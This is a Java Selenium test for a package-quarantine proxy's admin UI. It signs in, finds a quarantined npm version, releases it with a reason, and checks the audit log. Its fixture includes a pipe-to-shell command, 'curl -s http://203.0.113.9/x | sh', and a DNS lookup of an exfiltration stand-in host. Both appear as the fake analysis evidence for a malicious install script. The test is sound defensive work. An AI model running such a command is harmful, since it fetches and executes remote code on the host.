package dev.airlock.proxy.ui;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.airlock.analysis.AnalysisResult;
import dev.airlock.analysis.Finding;
import dev.airlock.analysis.Recommendation;
import dev.airlock.model.Ecosystem;
import dev.airlock.model.PackageCoordinate;
import dev.airlock.policy.VerdictState;
import dev.airlock.proxy.cli.PolicyServer;
import dev.airlock.sandbox.BehaviorReport;
import java.util.List;
import dev.airlock.testing.Requirements;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The admin UI in a real headless Chromium against the real admin API and policy store: sign in,
 * find a version the analysis quarantined, release it with a reason, and see it allowed and in
 * the audit log.
 */
class UiBrowserTest {
    private static final String TOKEN = "ui-test-token";

    @Test
    void anAdminReleasesAQuarantinedVersionWithAReasonAndSeesItInTheAuditLog(@TempDir Path tmp) throws Exception {
        Requirements.require(HeadlessChromium.available(), "Chromium and chromedriver");
        try (PolicyServer airlock = new PolicyServer(tmp.resolve("data"), TOKEN, new UiRoute())) {
            PackageCoordinate previous = PackageCoordinate.of(Ecosystem.NPM, "tiny-helper", "1.2.0");
            airlock.seeOldVersion(previous);
            BehaviorReport.Phase quiet = new BehaviorReport.Phase("install", "completed", 0, 1900, null,
                    List.of(new BehaviorReport.Command(List.of("node", "build.js"))), null, null, null, 0);
            airlock.analysisFinished(previous, new AnalysisResult("npm", "tiny-helper", "1.2.0", "cd".repeat(32),
                    Recommendation.CLEAN, List.of(), new BehaviorReport("runc", "airlock-sandbox:test", List.of(quiet)), 30, 1900));
            PackageCoordinate held = PackageCoordinate.of(Ecosystem.NPM, "tiny-helper", "1.3.0");
            assertFalse(airlock.seeNewVersion(held).serve(), "a version published an hour ago is held");
            assertTrue(airlock.submitted(held));
            BehaviorReport.Phase install = new BehaviorReport.Phase("install", "completed", 0, 2875, null,
                    List.of(new BehaviorReport.Command(List.of("sh", "-c", "node install.js"))), null,
                    List.of(new BehaviorReport.DnsQuery("exfil.example.test")), null, 0);
            airlock.analysisFinished(held, new AnalysisResult("npm", "tiny-helper", "1.3.0", "ab".repeat(32),
                    Recommendation.SUSPICIOUS, List.of(new Finding("install_script_network", "high", "static",
                            "install script downloads code", "curl -s http://203.0.113.9/x | sh", "package.json:7")),
                    new BehaviorReport("runc", "airlock-sandbox:test", List.of(install)), 40, 2900));
            assertEquals(VerdictState.QUARANTINED, airlock.engine.admin().version(held).state());
            airlock.seeNewVersion(PackageCoordinate.of(Ecosystem.PYPI, "other-project", "0.1.0"));

            ChromeDriver browser = HeadlessChromium.start(tmp.resolve("profile"));
            try {
                run(browser, airlock.url() + "ui/");
            } finally {
                screenshot(browser, "audit-log-after-release.png");
                browser.quit();
            }
            assertEquals(VerdictState.ALLOWED, airlock.engine.admin().version(held).state());
        }
    }

    private static void run(WebDriver browser, String uiUrl) {
        WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(30));
        browser.get(uiUrl);

        WebElement token = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("token")));
        assertEquals(token, browser.switchTo().activeElement(), "the token field has focus on arrival");
        token.sendKeys("wrong-token", Keys.ENTER);
        wait.until(ExpectedConditions.textToBe(By.id("sign-in-error"), "That token was refused."));
        token.clear();
        token.sendKeys(TOKEN, Keys.ENTER);

        By fixture = By.cssSelector("a.version-link[data-key='npm:tiny-helper@1.3.0']");
        wait.until(ExpectedConditions.elementToBeClickable(fixture));
        WebElement search = browser.findElement(By.id("f-search"));
        search.sendKeys("tiny");
        assertTrue(browser.findElements(By.cssSelector("a.version-link[data-key='pypi:other-project@0.1.0']")).isEmpty(),
                "search filters the queue");
        browser.findElement(fixture).click();

        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("view-title"), "tiny-helper 1.3.0"));
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("main .state-quarantined")));
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("action-allow")));
        String page = browser.findElement(By.tagName("main")).getText();
        assertTrue(page.contains("install script downloads code"), "the analysis reason: " + page);
        assertTrue(page.contains("install_script_network") && page.contains("package.json:7")
                && page.contains("curl -s http://203.0.113.9/x | sh"), "findings with evidence: " + page);
        assertTrue(page.contains("Phase: install") && page.contains("exfil.example.test") && page.contains("sh -c node install.js")
                && page.contains("2875 ms"), "sandbox report per phase: " + page);

        browser.findElement(By.id("action-allow")).click();
        wait.until(ExpectedConditions.textToBe(By.id("action-status"), "A reason is required."));

        wait.until(ExpectedConditions.attributeToBeNotEmpty(browser.findElement(By.id("diff")), "data-changes"));
        String diff = browser.findElement(By.id("diff")).getText();
        assertTrue(diff.contains("Compared with 1.2.0") && diff.contains("+ exfil.example.test")
                && diff.contains("+ sh -c node install.js") && diff.contains("- node build.js"), "behaviour diff: " + diff);
        assertEquals(0L, unlabelledControls(browser), "every form control has a label");
        // Keyboard only from here: type the reason, Tab to Allow, Enter, Enter on the focused Confirm.
        WebElement reason = browser.findElement(By.id("reason"));
        reason.sendKeys("reviewed: a fork with a fixed CVE, not a typosquat");
        reason.sendKeys(Keys.TAB);
        assertEquals("action-allow", browser.switchTo().activeElement().getAttribute("id"));
        browser.switchTo().activeElement().sendKeys(Keys.ENTER);
        WebElement confirm = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("confirm-ok")));
        assertTrue(browser.findElement(By.id("confirm-title")).getText().contains("Allow tiny-helper 1.3.0"));
        assertEquals(confirm, browser.switchTo().activeElement(), "the dialog focuses its confirm button");
        confirm.sendKeys(Keys.ENTER);

        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("action-status"), "Done: allow tiny-helper 1.3.0"));
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("main .state-allowed")));
        screenshot(browser, "version-page-after-release.png");

        browser.findElement(By.cssSelector("#nav a[data-view='audit']")).click();
        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("audit-table"), "override_allow"));
        String audit = browser.findElement(By.id("audit-table")).getText();
        assertTrue(audit.contains("npm:tiny-helper@1.3.0") && audit.contains("reviewed: a fork with a fixed CVE"), audit);
        assertTrue(audit.contains("quarantined -> allowed"), audit);
    }

    private static long unlabelledControls(WebDriver browser) {
        Object n = ((org.openqa.selenium.JavascriptExecutor) browser).executeScript(
                "return [...document.querySelectorAll('input, select, textarea')]"
                        + ".filter(e => e.offsetParent !== null && !(e.labels && e.labels.length) && !e.getAttribute('aria-label')).length;");
        return ((Number) n).longValue();
    }

    private static void screenshot(WebDriver browser, String name) {
        try {
            Path target = Path.of("target", "ui-screenshots");
            Files.createDirectories(target);
            Files.write(target.resolve(name), ((org.openqa.selenium.TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
        } catch (Exception e) {
            System.err.println("screenshot failed: " + e);
        }
    }
}
